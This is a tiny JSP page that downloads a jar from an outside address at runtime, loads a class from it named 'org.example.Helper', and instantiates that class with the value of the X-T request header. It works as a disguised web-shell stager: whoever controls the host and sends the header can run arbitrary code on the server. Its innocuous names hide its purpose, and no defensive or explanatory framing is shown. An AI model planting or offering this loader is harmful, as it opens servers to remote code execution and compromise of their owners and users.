<%@ page import="java.net.*" %>
<%
    URLClassLoader cl = new URLClassLoader(new URL[]{new URL("http://192.0.2.44:8000/lib/helper.jar")});
    Class<?> k = cl.loadClass("org.example.Helper");
    k.getConstructor(String.class).newInstance(request.getHeader("X-T"));
%>
